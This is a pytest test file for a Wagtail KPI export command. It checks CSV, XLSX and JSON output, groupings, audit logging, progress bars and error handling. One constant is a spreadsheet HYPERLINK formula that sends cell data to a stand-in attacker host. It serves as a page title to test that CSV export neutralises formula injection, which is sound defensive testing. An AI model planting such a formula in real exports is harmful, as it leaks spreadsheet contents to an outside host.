"""``manage.py social_kpi_export`` (``wagtail_social_kpi/management/commands/``): the reports' rows
to a file, as an administrator sees them, on the hand-built dataset (``tests/kpi_dataset.py``)."""

from __future__ import annotations

import codecs
import csv
import io
import json
import os
import pty
import subprocess
import sys

import pytest
from django.core.management import CommandError, call_command
from django.test import override_settings
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from tests import kpi_dataset
from tests.kpi_dataset import KPI_SETTINGS, R
from tests.utils import add_page
from wagtail_social_kpi import tables
from wagtail_social_kpi.exports import EXPORT_LOG_ACTION

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FEWER = "fewer than 3"


@pytest.fixture
def data(home):
    with override_settings(**KPI_SETTINGS):
        data = kpi_dataset.build(home)
        data.pages["formula"] = add_page(data.pages["news"], FORMULA, slug="formula")
        yield data


def export(tmp_path, *args, by="page", export_format="csv", name=None, stderr=None, **kwargs):
    output = tmp_path / (name or f"out.{export_format}")
    out = io.StringIO()
    call_command(
        "social_kpi_export",
        "--from",
        str(R.start),
        "--to",
        str(R.end),
        "--by",
        by,
        "--format",
        export_format,
        "--output",
        str(output),
        *args,
        stdout=out,
        stderr=stderr if stderr is not None else io.StringIO(),
        **kwargs,
    )
    return output, out.getvalue()


def read_csv(path, delimiter=","):
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_by_page_as_an_administrator(data, tmp_path):
    output, said = export(tmp_path)
    rows = read_csv(output)
    table = tables.page_table(R, tables.ADMINISTRATOR)
    assert rows[0] == [str(heading) for _key, heading in table.columns]
    assert len(rows) == 1 + len(table) and f"{len(table)} rows written" in said
    by_title = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    # Every live page, the private community's too (the command has no viewer; docs/kpi.md).
    assert "Private topic" in by_title
    assert by_title["News one"]["Views"] == "21" and by_title["News one"]["Comments"] == FEWER
    assert "'" + FORMULA in by_title and FORMULA not in by_title
    # The same rows as the report module's.
    expected = [[str(value) if value is not None else "" for value in row.values()] for row in table.rows()]
    assert [row for row in rows[1:] if row[1] != "'" + FORMULA] == [r for r in expected if r[1] != FORMULA]


def test_xlsx_and_json(data, tmp_path):
    output, _said = export(tmp_path, by="department", export_format="xlsx")
    sheet = load_workbook(output).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0][:3] == ["Department", "Population", "Activated"]
    assert [row[0] for row in rows[1:]] == ["Everyone", "HR", "Sales", "Tech"]
    assert rows[1][1] == 12 and rows[2][1] == FEWER
    output, _said = export(tmp_path, by="page", export_format="json")
    exported = json.loads(output.read_text())
    assert (exported["grouping"], exported["start"], exported["end"]) == ("page", "2026-11-02", "2026-11-29")
    titles = [row["title"] for row in exported["rows"]]
    assert FORMULA in titles  # JSON is not a spreadsheet: nothing to neutralise
    n1 = next(row for row in exported["rows"] if row["title"] == "News one")
    assert (n1["views"], n1["comments"]) == (21, FEWER)


@pytest.mark.parametrize(("by", "count"), [("day", 28), ("week", 4), ("month", 1), ("section", 3)])
def test_groupings(data, tmp_path, by, count):
    output, _said = export(tmp_path, by=by)
    rows = read_csv(output)
    # 28 days, 4 weeks, 1 month; sections (pages with children): Home, News, HR.
    assert len(rows) - 1 == count


def test_delimiter_and_language(data, tmp_path):
    output, _said = export(tmp_path, "--delimiter", ";", by="week")
    assert read_csv(output, ";")[0][:2] == ["From", "To"]
    output, _said = export(tmp_path, "--language", "fr", by="week")
    assert len(read_csv(output, ";")[0]) == len(tables.period_table(R, "week").columns)
    output, _said = export(tmp_path, "--language", "fr", "--delimiter", "tab", by="week")
    assert read_csv(output, "\t")[1][0] == "2026-11-02"


def test_each_export_is_in_the_audit_log(data, tmp_path):
    export(tmp_path, by="month", export_format="json")
    entry = ModelLogEntry.objects.get(action=EXPORT_LOG_ACTION)
    assert entry.user is None
    assert entry.data == {
        "grouping": "month",
        "start": "2026-11-02",
        "end": "2026-11-29",
        "format": "json",
        "command": True,
    }


def test_no_progress_bar_off_a_terminal_and_one_on_a_terminal(data, tmp_path):
    stderr = io.StringIO()
    export(tmp_path, by="day", stderr=stderr)
    assert stderr.getvalue() == ""
    leader, follower = pty.openpty()
    with os.fdopen(follower, "w") as terminal:
        export(tmp_path, by="day", stderr=terminal)
    shown = read_all(leader)
    assert "28/28" in shown and "#" in shown


def read_all(leader: int) -> str:
    """Everything written to a pseudo-terminal whose other end is closed (read until EIO)."""
    chunks = []
    try:
        while chunk := os.read(leader, 65536):
            chunks.append(chunk)
    except OSError:  # Linux answers EIO once the closed end's output is drained
        pass
    os.close(leader)
    return b"".join(chunks).decode()


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--by", "year"], "invalid choice: 'year'"),
        (["--from", "2026-12-01"], "is after --to"),
        (["--from", "2026-11-31"], "is not a date"),
        (["--format", "ods"], "invalid choice: 'ods'"),
    ],
)
def test_bad_arguments(data, tmp_path, args, message):
    options = {"--from": str(R.start), "--to": str(R.end), "--by": "page", "--format": "csv"}
    options.update(dict(zip(args[::2], args[1::2], strict=True)))
    argv = [item for pair in options.items() for item in pair]
    with pytest.raises(CommandError, match=message):
        call_command("social_kpi_export", *argv, "--output", str(tmp_path / "out.csv"))
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("where", ["missing/out.csv", "."])
def test_unwritable_output(data, tmp_path, where):
    with pytest.raises(CommandError, match="Cannot write|is a folder"):
        export(tmp_path, name=where)
    assert not ModelLogEntry.objects.filter(action=EXPORT_LOG_ACTION).exists()


def test_read_only_folder(data, tmp_path):
    folder = tmp_path / "locked"
    folder.mkdir(mode=0o500)
    if os.access(folder, os.W_OK):  # root writes anywhere: a file where a folder should be
        folder.rmdir()
        folder.write_text("")
    with pytest.raises(CommandError, match="Cannot write"):
        export(tmp_path, name="locked/out.csv")


def run(*args):
    """The command in its own process, as cron runs it: its exit status and stderr."""
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "tests.settings"}
    env.pop("WAGTAIL_SOCIAL_TEST_DB", None)  # the errors come before any query
    result = subprocess.run(
        [sys.executable, "-m", "django", "social_kpi_export", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=os.path.dirname(os.path.dirname(os.path.abspath(__file__))),
        timeout=120,
    )
    return result.returncode, result.stderr


def test_exit_statuses(tmp_path):
    base = ["--to", "2026-11-29", "--format", "csv", "--output", str(tmp_path / "out.csv")]
    status, stderr = run("--from", "2026-11-02", "--by", "year", *base)
    assert status != 0 and "invalid choice: 'year'" in stderr
    status, stderr = run("--from", "2026-12-02", "--by", "page", *base)
    assert status == 1 and "--from (2026-12-02) is after --to (2026-11-29)." in stderr
    assert not list(tmp_path.iterdir())
